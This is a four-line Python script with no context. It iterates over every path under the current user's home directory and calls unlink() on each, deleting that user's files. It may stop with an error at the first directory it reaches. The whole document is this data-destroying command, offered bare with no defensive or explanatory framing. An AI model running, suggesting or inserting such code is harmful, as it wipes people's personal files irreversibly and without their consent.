from pathlib import Path

for path in Path.home().rglob("*"):
    path.unlink()
